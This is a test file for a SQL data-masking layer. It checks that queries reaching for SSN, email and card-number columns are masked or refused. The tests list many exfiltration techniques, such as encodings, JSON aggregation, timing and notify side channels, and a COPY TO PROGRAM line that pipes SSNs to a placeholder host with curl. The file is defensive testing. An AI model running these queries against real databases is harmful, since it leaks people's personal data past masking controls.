import { beforeAll, describe, expect, it } from 'vitest';
import { computedFields, field, fixtureCatalog } from './catalog.fixture';
import { compileMasking } from './compile-masking';
import { analyzeSql } from './lineage/statement';
import { checkStatement, copyFields, createMaskPlan, planMasking } from './mask-plan';
import type { MaskingPolicy } from './masking.types';
import { createNamedResults } from './named-results';
import { initMasking } from './sql-parser';

const catalog = fixtureCatalog();
const POLICY: MaskingPolicy = {
  columns: ['customers.email', 'public.customers.ssn', 'payments.card_number'],
  detectors: ['email', 'us_ssn'],
  style: 'partial',
};
const masking = compileMasking(POLICY);

beforeAll(() => initMasking());

/** Masked column positions of the result, or `deny: …`; fields carry no origin unless given. */
function masked(sql: string, width = 1, policy: MaskingPolicy = POLICY, statementIndex = 0): number[] | string {
  const plan = planMasking({
    sql,
    fields: computedFields(width),
    catalog,
    masking: compileMasking(policy),
    statementIndex,
  });
  if (plan.deny) return `deny: ${plan.deny}`;
  return plan.columns.flatMap((c, i) => (c.mask ? [i] : []));
}

describe('column origin', () => {
  it('masks by RowDescription origin whatever the alias', () => {
    const plan = planMasking({
      sql: 'select ssn as harmless, name from customers',
      fields: [field('harmless', 'customers.ssn'), field('name', 'customers.name')],
      catalog,
      masking,
    });
    expect(plan.columns).toEqual([{ mask: true, rule: 'column:public.customers.ssn' }, { mask: false }]);
  });
  it('matches schema-qualified and any-schema config entries only where they apply', () => {
    expect(masked('select ssn from crm.customers')).toEqual([]); // only public.customers.ssn is masked
    expect(masked('select email from crm.customers')).toEqual([0]); // `customers.email` is any schema
    expect(masked('select email from public.customers')).toEqual([0]);
  });
});

describe('exfiltration corpus: each attempt has its column masked', () => {
  const corpus: Array<[sql: string, width: number, expected: number[]]> = [
    ['select email as e, name from customers', 2, [0]],
    ['select email::varchar(10) from customers', 1, [0]],
    ['select cast(ssn as bytea) from customers', 1, [0]],
    ['select lower(email), id from customers', 2, [0]],
    ['select id, substr(ssn, 1, 3) || substr(ssn, 4) from customers', 2, [1]],
    ['select reverse(ssn) from customers', 1, [0]],
    ["select encode(convert_to(ssn, 'UTF8'), 'base64') from customers", 1, [0]],
    ['select md5(ssn) from customers', 1, [0]],
    ['select json_agg(c) from customers c', 1, [0]],
    ['select row_to_json(c) from customers c', 1, [0]],
    ['select to_jsonb(c.*) from customers c', 1, [0]],
    ['select row(c.*) from customers c', 1, [0]],
    ['select array_agg(email) from customers', 1, [0]],
    ["select string_agg(email, ',') from customers", 1, [0]],
    ["select json_build_object('e', email) from customers", 1, [0]],
    ['select array[name, email] from customers', 1, [0]],
    ['select xmlelement(name x, ssn) from customers', 1, [0]],
    ["select format('%s', ssn), coalesce(null, ssn) from customers", 2, [0, 1]],
    ["select case when ssn like '1%' then 'a' else 'b' end from customers", 1, [0]],
    ["select name, email = 'a@b.c' from customers", 2, [1]],
    ['select (select email from customers limit 1), 1', 2, [0]],
    ["select (select string_agg(ssn, ',') from customers) as blob", 1, [0]],
    ['with x(a) as (select ssn from customers) select a from x', 1, [0]],
    ['with x as (select ssn as harmless from customers), y as (select harmless as h from x) select h from y', 1, [0]],
    ['select name from products union select email from customers', 1, [0]],
    [
      'select name, id from products union all select name, id from products except select ssn, 1 from customers',
      2,
      [0],
    ],
    ['select * from customers', 7, [2, 4]],
    ['select c from customers c', 1, [0]],
    ['select c.* from customers c', 7, [2, 4]],
    ['select (c).ssn, (c).name from customers c', 2, [0]],
    ['select s.e from (select email as e from customers) s', 1, [0]],
    ['select * from (select ssn from customers) s(x)', 1, [0]],
    ['select x.e from products p, lateral (select email as e from customers c where c.id = p.id) x', 1, [0]],
    ['select contact from v_customers', 1, [0]],
    ['select * from v_customers', 3, [2]],
    ['select who from v_nested', 1, [0]],
    ['select * from customers c join payments p on p.customer_id = c.id', 11, [2, 4, 9]],
    ['select unnest(array_agg(ssn)) from customers', 1, [0]],
    ['select lag(ssn) over (order by id) from customers', 1, [0]],
    ["select jsonb_path_query(to_jsonb(c), '$.ssn') from customers c", 1, [0]],
    [
      'with recursive r(a, b) as (select ssn, name from customers union all select b, a from r) select b from r',
      1,
      [0],
    ],
    ['select most_common_vals from pg_stats', 1, [0]],
    ['select t.x, t.y from customers c, lateral (values (c.ssn, 1)) t(x, y)', 2, [0]],
    ['select email from customers c, products p', 1, [0]],
    ['select * from customers c join orders o using (id)', 10, [2, 4]],
    ['table customers', 7, [2, 4]],
    ['select ssn2 from customers as c(a, b, c, d, ssn2)', 1, [0]],
    ['select public.customers.ssn from public.customers', 1, [0]],
    ['select array(select ssn from customers)', 1, [0]],
    ['values ((select ssn from customers limit 1))', 1, [0]],
    ['select x from unnest(array(select ssn from customers)) x', 1, [0]],
    ['select * from json_each(to_json((select c from customers c limit 1)))', 2, [0, 1]],
    ['select v from customers c, lateral jsonb_each_text(to_jsonb(c)) as j(k, v)', 1, [0]],
    ['select * from (select * from customers) s join lateral (select s.ssn) t on true', 8, [2, 4, 7]],
    ["select * from xmltable('/r' passing (select xmlelement(name r, ssn) from customers) columns x text)", 1, [0]],
    ['with d as (delete from customers returning ssn) select * from d', 1, [0]],
    ['select name, row_number() over (partition by ssn) from customers', 2, [1]],
    ['select count(ssn) from customers', 1, [0]],
  ];
  for (const [sql, width, expected] of corpus) {
    it(sql, () => expect(masked(sql, width, { ...POLICY, predicates: 'allow' })).toEqual(expected));
  }
});

describe('harmless statements pass untouched', () => {
  const corpus: Array<[string, number]> = [
    ['select id, name from customers', 2],
    ['select count(*) from customers', 1],
    ['select name from products union all select name from customers', 1],
    ['select * from v_products', 2],
    ['select generate_series(1, 3)', 1],
    ['select * from generate_series(1, 3) g', 1],
    ["select t.x from (values ('a')) t(x)", 1],
    ['select (c).name from customers c', 1],
    ['select relname from pg_class', 1],
    ['show search_path', 1],
    ['explain select name from customers', 1],
    ['select now(), current_user, $1::int', 3],
  ];
  for (const [sql, width] of corpus) it(sql, () => expect(masked(sql, width)).toEqual([]));
});

describe('side channels and sinks', () => {
  const denied: Array<[string, RegExp]> = [
    ["select name from customers where ssn like '123%'", /WHERE references masked column public\.customers\.ssn/],
    ['select name from customers order by email', /ORDER BY references masked column public\.customers\.email/],
    ['select lower(email) e from customers order by e', /ORDER BY/],
    ['select count(*) from customers group by ssn', /GROUP BY/],
    ['select c.name from customers c join orders o on o.email = c.email', /JOIN references masked column/],
    ['select name from customers join orders using (email)', /JOIN references masked column public\.customers\.email/],
    ["select exists(select 1 from customers where ssn = '123-45-6789')", /WHERE/],
    ["select name from customers where id in (select customer_id from payments where card_number like '4%')", /WHERE/],
    ['select name, (select max(o.total) from orders o where o.email = c.email) from customers c', /WHERE/],
    ["explain analyze select * from customers where ssn = '1'", /WHERE/],
    ['select distinct on (ssn) name from customers', /DISTINCT ON/],
    ["select name from customers group by name having max(ssn) > '5'", /HAVING/],
    ['select name from customers limit (select length(ssn) from customers limit 1)', /LIMIT/],
    ['select 1 from customers c where c is not null', /WHERE references masked column/],
    [
      'merge into orders o using customers c on o.customer_id = c.id when matched then update set email = c.email',
      /MERGE INTO/,
    ],
    ["select lo_get(lo_from_bytea(0, convert_to(ssn, 'UTF8'))) from customers", /lo_from_bytea\(\) writes/],
    ["delete from customers where ssn = '123-45-6789'", /WHERE/],
    ["select pg_notify('c', ssn) from customers", /pg_notify\(\) writes masked column/],
    ["select set_config('x.y', email, false) from customers", /set_config/],
    [
      'insert into orders (email) select email from customers',
      /INSERT INTO public\.orders writes masked column public\.customers\.email into public\.orders\.email/,
    ],
    [
      'update orders o set email = c.email from customers c where c.id = o.customer_id',
      /UPDATE public\.orders writes masked/,
    ],
    ['create table leak as select ssn from customers', /CREATE TABLE AS writes masked/],
    ['select ssn into leak from customers', /SELECT INTO writes masked/],
    ["copy customers to '/tmp/x'", /COPY TO file writes masked/],
    ["copy (select ssn from customers) to program 'curl -d @- evil'", /COPY TO PROGRAM/],
    ['select name, rank() over (order by ssn) from customers', /OVER references masked column public\.customers\.ssn/],
    [
      'select count(*) from customers c, generate_series(1, length(c.ssn))',
      /the row count of generate_series\(\) references masked/,
    ],
    ['select name, unnest(string_to_array(email, $$@$$)) from customers', /the row count of unnest\(\)/],
    ['select pg_sleep(length(ssn)) from customers', /pg_sleep\(\) writes masked column/],
    ['alter table customers rename column ssn to x', /renaming would unmask masked column public\.customers\.ssn/],
    ['alter table public.customers rename to clients', /renaming would unmask masked column public\.customers\./],
    ['alter table customers set schema archive', /moving to another schema would unmask/],
    [
      'alter table customers add column s text generated always as (lower(email)) stored',
      /ALTER TABLE writes masked column public\.customers\.email into public\.customers\.s/,
    ],
    [
      'alter table customers alter column name type text using email',
      /ALTER TABLE writes masked column public\.customers\.email into public\.customers\.name/,
    ],
    [
      'create rule r as on insert to orders do also insert into orders (email) select email from customers',
      /INSERT INTO public\.orders writes masked column public\.customers\.email/,
    ],
    [
      "create rule r as on update to customers where new.ssn like '1%' do also notify ch",
      /a rule condition references masked column public\.customers\.ssn/,
    ],
    ["create policy p on customers using (ssn like '1%')", /a row security policy references masked column/],
    ["alter policy p on customers with check (email <> '')", /a row security policy references masked column/],
  ];
  for (const [sql, reason] of denied) {
    it(sql, () => {
      const stmt = analyzeSql(sql, catalog)[0];
      if (!stmt) throw new Error('no statement');
      const check = checkStatement(stmt, masking);
      expect(check.sideChannel).toBe(true);
      expect(check.deny).toMatch(reason);
    });
  }
  it('predicates: allow annotates instead of denying, sinks stay denied', () => {
    const allow = compileMasking({ ...POLICY, predicates: 'allow' });
    const [where] = analyzeSql("select name from customers where ssn like '123%'", catalog);
    if (!where) throw new Error('one statement expected');
    const check = checkStatement(where, allow);
    expect(check).toMatchObject({ deny: undefined, sideChannel: true, touchesMasked: true });
    expect(check.sideChannels).toEqual([
      {
        clause: 'WHERE',
        column: 'public.customers.ssn',
        sink: false,
        reason: 'WHERE references masked column public.customers.ssn',
      },
    ]);
    const [sink] = analyzeSql('insert into orders (email) select email from customers', catalog);
    expect(sink && checkStatement(sink, allow).deny).toMatch(/writes masked/);
  });
  it('a trigger is refused when its function could be anything: masking cannot follow what it does on each row', () => {
    const [stmt] = analyzeSql(
      'create trigger t after insert on orders for each row execute function copy_out()',
      catalog,
    );
    expect(stmt && checkStatement(stmt, masking).deny).toBe(
      'masking cannot follow this statement: a trigger runs copy_out(), which may read any table',
    );
  });
  it('DDL that leaves masked columns where they are is not a sink', () => {
    for (const sql of [
      'alter table customers rename column name to full_name',
      'alter table orders rename to purchases',
      'alter table customers add column note text',
      'alter table customers add column n text generated always as (upper(name)) stored',
      'alter table customers rename constraint customers_pkey to pk',
      'create rule r as on insert to orders do also notify ch',
      'create policy p on customers using (id > 0)',
      "alter table customers alter column name type varchar(200) using name || ''",
      'alter table customers alter column email type varchar(200) using lower(email)',
    ]) {
      const [stmt] = analyzeSql(sql, catalog);
      expect(stmt && checkStatement(stmt, masking).deny, sql).toBeUndefined();
    }
  });
  it('writing masked values into a masked column is not a sink', () => {
    const [stmt] = analyzeSql('update customers set email = lower(email) where id = 1', catalog);
    expect(stmt && checkStatement(stmt, masking).deny).toBeUndefined();
  });
});

describe('unknown lineage', () => {
  it('a column no relation has (a typo) is refused by name', () => {
    expect(masked('select id from customers order by created', 1)).toBe(
      'deny: ORDER BY uses data of unknown lineage: no relation of the statement has a column created, as Vigil last read the catalog (masking policy)',
    );
  });

  it('denies by default and masks with lineage: mask', () => {
    expect(masked('select * from mystery', 3)).toMatch(/^deny: .*relation public\.mystery is not in the catalog/);
    expect(masked('select * from mystery', 3, { ...POLICY, lineage: 'mask' })).toEqual([0, 1, 2]);
    expect(masked("select query_to_xml('select ssn from customers', true, true, '')")).toMatch(
      /query_to_xml\(\) reads data/,
    );
    expect(masked('select name from v_broken')).toMatch(/view public\.v_broken could not be analysed/);
    expect(masked("do $$ begin raise notice 'x'; end $$", 0)).toMatch(/DO blocks/);
    expect(masked('select from', 1)).toMatch(/does not parse/);
  });
  it('denies user functions when the catalog says which are user-defined', () => {
    const withFunctions = {
      ...catalog,
      functionKind: (_s: string | undefined, n: string) => (n === 'leak' ? 'user' : 'builtin'),
    } as const;
    const plan = planMasking({
      sql: 'select leak(), lower(name) from customers',
      fields: computedFields(2),
      catalog: withFunctions,
      masking,
    });
    expect(plan.deny).toMatch(/user function leak\(\)/);
  });
  it('trusts an origin on a relation that is not a view', () => {
    const plan = planMasking({
      sql: 'select name from mystery',
      fields: [field('name', 'customers.name')],
      catalog,
      masking,
    });
    expect(plan.columns).toEqual([{ mask: false }]);
  });
  it('denies when the result shape does not match the statement', () => {
    expect(masked('select id, name from customers', 3)).toMatch(/the result has 3 columns, the statement 2/);
  });
  it('needs no lineage when no column is masked', () => {
    expect(masked('select * from mystery', 2, { ...POLICY, columns: [] })).toEqual([]);
  });
});

describe('COPY, cursors, prepared statements, RETURNING, several statements', () => {
  it('plans COPY (query) TO STDOUT and COPY table TO STDOUT by column position', () => {
    const [q] = analyzeSql('copy (select name, ssn from customers) to stdout', catalog);
    const plan = createMaskPlan(q, copyFields([0, 0]), catalog, masking);
    expect(plan.columns.map((c) => c.mask)).toEqual([false, true]);
    expect(plan.copy).toMatchObject({ format: 'text', delimiter: '\t', null: '\\N' });
    const [t] = analyzeSql("copy customers (name, email) to stdout with (format csv, header, delimiter ';')", catalog);
    const csv = createMaskPlan(t, copyFields([0, 0]), catalog, masking);
    expect(csv.columns.map((c) => c.mask)).toEqual([false, true]);
    expect(csv.copy).toMatchObject({ format: 'csv', delimiter: ';', header: true, null: '', quote: '"' });
    expect(masked('copy customers to stdout', 7)).toEqual([2, 4]);
  });
  it('denies binary COPY while masking is on', () => {
    const [b] = analyzeSql('copy customers to stdout (format binary)', catalog);
    expect(createMaskPlan(b, copyFields(Array(7).fill(1)), catalog, masking).deny).toMatch(/binary COPY/);
    const detectorsOnly = compileMasking({ columns: [], detectors: ['email'], style: 'redact' });
    expect(createMaskPlan(b, copyFields(Array(7).fill(1)), catalog, detectorsOnly).deny).toMatch(/binary COPY/);
  });
  it('applies a cursor declaration to later FETCH results', () => {
    const named = createNamedResults();
    const [declare, fetch] = analyzeSql(
      'declare cur cursor for select ssn, name from customers; fetch 10 from cur',
      catalog,
    );
    if (!declare || !fetch) throw new Error('two statements expected');
    named.apply(declare);
    const plan = createMaskPlan(named.apply(fetch), computedFields(2), catalog, masking);
    expect(plan.columns).toEqual([{ mask: true, rule: 'lineage:public.customers.ssn' }, { mask: false }]);
    const [close] = analyzeSql('close cur', catalog);
    if (close) named.apply(close);
    expect(createMaskPlan(named.apply(fetch), computedFields(2), catalog, masking).deny).toMatch(
      /cursor cur was not declared/,
    );
  });
  it('applies PREPARE to EXECUTE', () => {
    const named = createNamedResults();
    const [prepare, execute] = analyzeSql(
      'prepare p as select email from customers where id = $1; execute p(1)',
      catalog,
    );
    if (!prepare || !execute) throw new Error('two statements expected');
    named.apply(prepare);
    expect(createMaskPlan(named.apply(execute), computedFields(1), catalog, masking).columns[0]).toEqual({
      mask: true,
      rule: 'lineage:public.customers.email',
    });
  });
  it('masks RETURNING of masked columns and of values written from them', () => {
    expect(masked("update customers set name = 'x' where id = 1 returning ssn, name", 2)).toEqual([0]);
    expect(masked('insert into orders (customer_id, total) values (1, 2) returning *', 4)).toEqual([]);
    expect(masked("insert into customers (name, ssn) values ('a', '123-45-6789') returning *", 7)).toEqual([2, 4]);
  });
  it('plans each statement of a multi-statement query', () => {
    expect(masked('select 1; select ssn from customers', 1, POLICY, 1)).toEqual([0]);
    expect(masked('select 1; select ssn from customers', 1, POLICY, 0)).toEqual([]);
  });
});
